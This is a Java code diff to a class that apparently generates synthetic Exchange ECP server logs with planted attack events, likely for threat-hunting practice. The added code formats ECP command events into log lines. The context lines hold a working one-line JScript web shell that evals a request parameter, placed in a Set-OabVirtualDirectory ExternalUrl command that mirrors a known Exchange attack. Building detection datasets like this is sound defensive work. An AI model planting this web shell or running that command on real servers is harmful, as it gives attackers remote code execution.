@@ -38,6 +38,12 @@ final class EcpServerDialect implements Dialect {
 
     @Override
     public boolean planted(LineBuffer b, long time, PlantedEvent event) {
+        if (event instanceof PlantedEvent.EcpCommand e) {
+            String pair = "S:CMD=" + e.command();
+            boolean quote = e.command().indexOf('\'') >= 0 || e.command().indexOf(';') >= 0;
+            write(b, time, new SplittableRandom(time), quote ? "'" + pair.replace("'", "''") + "'" : pair, e.url());
+            return true;
+        }
         if (!(event instanceof PlantedEvent.OabWebShellWrite)) return false;
         String shell = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exhunt\"],\"unsafe\");}</script>";
         String cmd = "Set-OabVirtualDirectory.ExternalUrl='" + shell + "'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'";
